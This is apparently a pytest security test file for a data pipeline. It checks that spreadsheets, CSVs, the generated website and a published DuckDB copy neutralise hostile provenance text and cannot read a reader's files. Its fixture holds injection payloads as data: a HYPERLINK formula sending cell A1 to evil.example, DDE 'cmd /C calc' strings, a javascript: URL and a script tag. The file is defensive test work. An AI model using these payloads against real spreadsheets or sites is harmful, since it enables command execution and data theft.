"""Nothing from a publication or a sidecar reaches a link target, a formula or a script (issue 25
part 7), and the published copy reads only its own files (part 6).

A warehouse whose provenance holds hostile text (a `javascript:` URL, formulas in the
publication, publisher, quote, location and footnote, a `<script>` element) is exported and
built into the site: no cell of any workbook sheet is a formula, no CSV cell starts with
= + - @ (or a tab or carriage return) unless it is a number, no page links anywhere but
http(s) or its own files, and the script arrives as text.
"""

from __future__ import annotations

import csv
import hashlib
import html
import json
import os
import re
import zipfile
from pathlib import Path

import duckdb
import pytest

from kr_pipeline import pipeline
from kr_pipeline.config import Settings

from .helpers import fill_store

pytestmark = pytest.mark.slow  # the whole site is built

URL = "javascript:alert(document.cookie)//https://example.org"
HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"klik hier")',
    "publisher": "+cmd|' /C calc'!A0",
    "quote": "-2+3 <script>alert('quote')</script>",
    "location": "@SUM(1+1)*cmd|' /C calc'!A0",
    "footnote": "\t=1+1",
}
# Characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+([.,]\d+)?([eE][-+]?\d+)?")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Settings:
    tmp = tmp_path_factory.mktemp("hostile")
    settings = Settings(
        warehouse=tmp / "kr.duckdb",
        snapshots=tmp / "snapshots",
        sources=None,
        allow_private_urls=True,
        curated=tmp / "curated",
        reports=tmp / "reports",
        site=tmp / "site",
    )
    fill_store(settings, ncmec_years=(2022, 2023))
    results = pipeline.build(settings)
    assert results and all(r.status == "loaded" for r in results), [r.message for r in results]
    # What a hostile sidecar or publication would bring (the store's own checks are another
    # matter: here the text is in the warehouse already).
    con = duckdb.connect(str(settings.warehouse))
    try:
        con.execute("UPDATE snapshots SET url = ?, title = ?, publisher = ?", [URL, HOSTILE["title"], HOSTILE["publisher"]])
        con.execute(
            "UPDATE statements SET quote = ?, location = ?, footnote = ?",
            [HOSTILE["quote"], HOSTILE["location"], HOSTILE["footnote"]],
        )
        [(shown,)] = con.execute(
            "SELECT count(*) FROM observations WHERE url = ? AND quote = ?", [URL, HOSTILE["quote"]]
        ).fetchall()
        assert shown > 0
    finally:
        con.close()
    return settings


def _no_formulas(book: Path) -> int:
    import openpyxl

    wb = openpyxl.load_workbook(book)
    cells = 0
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (book.name, sheet.title, cell.coordinate, cell.value)
                cells += isinstance(cell.value, str) and cell.value in HOSTILE.values()
    with zipfile.ZipFile(book) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), (book.name, name)
    return cells


def _csv_cells_safe(path: Path) -> int:
    hostile_seen = 0
    text = path.read_text("utf-8-sig")
    for row in csv.reader(text.splitlines(keepends=True), delimiter=";" if path.name.endswith(".nl.csv") else ","):
        for cell in row:
            if cell.startswith(FORMULA_START):
                assert NUMBER.fullmatch(cell), (path.name, cell)
            hostile_seen += cell.lstrip("'") in HOSTILE.values()
    return hostile_seen


def test_the_editors_files_hold_text_as_text(hostile, tmp_path):
    from kr_pipeline.present.export import export_views

    paths = export_views(hostile.warehouse, tmp_path / "export")
    books = [p for p in paths if p.suffix == ".xlsx"]
    csvs = [p for p in paths if p.suffix == ".csv"]
    assert books and csvs
    assert sum(_no_formulas(b) for b in books) > 0  # the hostile text is there, as text
    assert sum(_csv_cells_safe(p) for p in csvs) > 0
    # the text itself is kept: a reader sees what the publication says
    observations = (tmp_path / "export" / "observations.csv").read_text("utf-8")
    assert "'=HYPERLINK(" in observations and "<script>alert('quote')</script>" in observations


def test_the_site_links_only_to_the_web_and_escapes_text(hostile):
    from kr_pipeline.present.website import build_site

    pages = build_site(hostile, hostile.site)
    shown = 0
    for page in pages:
        text = page.read_text("utf-8")
        assert "<script>alert" not in text, page
        for target in re.findall(r"""(?:href|src)\s*=\s*["']([^"']*)["']""", text, re.I):
            target = re.sub(r"[\x00-\x20]", "", html.unescape(target))  # as a browser reads it
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", target, re.I)
            assert scheme is None or scheme[1].lower() in ("http", "https"), (page, target)
        shown += html.escape(URL) in text
    assert shown > 0  # the URL is shown, as text
    assert any("&lt;script&gt;alert(" in p.read_text("utf-8") for p in pages)
    downloads = hostile.site / "downloads"
    for book in downloads.glob("*.xlsx"):
        _no_formulas(book)
    for path in downloads.glob("*.csv"):
        _csv_cells_safe(path)


# --- the published copy (kr publish) -------------------------------------------------------


def _published(hostile, tmp_path, base_url=None) -> Path:
    from kr_pipeline.present.publish import publish

    out = tmp_path / "public"
    publish(hostile.warehouse, out, base_url=base_url)
    return out


def test_the_local_copy_reads_only_the_folder_the_reader_names(hostile, tmp_path, monkeypatch):
    out = _published(hostile, tmp_path)
    manifest = json.loads((out / "manifest.json").read_text("utf-8"))
    # a decoy: another `parquet/` folder (an old copy, someone else's files) where the reader is
    decoy = tmp_path / "elsewhere"
    (decoy / "parquet").mkdir(parents=True)
    con = duckdb.connect()
    for t in manifest["tables"]:
        con.execute(f"COPY (SELECT 'decoy' AS decoy) TO '{decoy / t['file']}' (FORMAT parquet)")
    con.close()
    monkeypatch.chdir(decoy)
    con = duckdb.connect(str(out / "kr.duckdb"), read_only=True)
    try:
        with pytest.raises(duckdb.Error, match="kr_published"):  # says what to set, reads nothing else
            con.execute("SELECT * FROM observations").fetchall()
        con.execute("SET file_search_path = ?", [str(out)])  # the old way is not enough either
        with pytest.raises(duckdb.Error, match="kr_published"):
            con.execute("SELECT * FROM observations").fetchall()
        con.execute("SET VARIABLE kr_published = ?", [str(out)])
        [(n,)] = con.execute("SELECT count(*) FROM observations").fetchall()
        assert n == next(t["rows"] for t in manifest["tables"] if t["name"] == "observations") and n > 0
        assert "decoy" not in [d[0] for d in con.execute("SELECT * FROM observations LIMIT 0").description]
    finally:
        con.close()


def test_the_manifest_holds_the_duckdb_files_checksum(hostile, tmp_path):
    out = _published(hostile, tmp_path, base_url="https://data.example.org/kr/")
    manifest = json.loads((out / "manifest.json").read_text("utf-8"))
    data = (out / "kr.duckdb").read_bytes()
    assert manifest["duckdb"]["sha256"] == hashlib.sha256(data).hexdigest()
    assert manifest["duckdb"]["bytes"] == len(data)


def test_a_replaced_copy_cannot_read_the_readers_files(hostile, tmp_path):
    """The README's way of attaching a copy: external access off, only the copy's own folder
    allowed. A copy whose views were replaced by views over the reader's files reads nothing."""
    out = _published(hostile, tmp_path)
    secret = tmp_path / "secret.txt"
    secret.write_text("the reader's own file", "utf-8")
    tampered = duckdb.connect(str(out / "kr.duckdb"))
    tampered.execute(f"CREATE OR REPLACE VIEW observations AS SELECT content FROM read_text('{secret}')")
    tampered.close()
    con = duckdb.connect()
    try:
        # as the README says (Publishing for many readers)
        con.execute("SET allowed_directories = ?", [[f"{out}{os.sep}"]])
        con.execute("SET enable_external_access = false")
        con.execute(f"ATTACH '{out / 'kr.duckdb'}' AS kr (READ_ONLY)")
        con.execute("SET VARIABLE kr_published = ?", [str(out)])
        assert con.execute("SELECT count(*) FROM kr.indicators").fetchone()[0] > 0  # the copy's own files: read
        with pytest.raises(duckdb.PermissionException):
            con.execute("SELECT * FROM kr.observations").fetchall()
    finally:
        con.close()
    readme = (Path(__file__).parents[1] / "README.md").read_text("utf-8")
    assert "SET enable_external_access = false" in readme and "allowed_directories" in readme
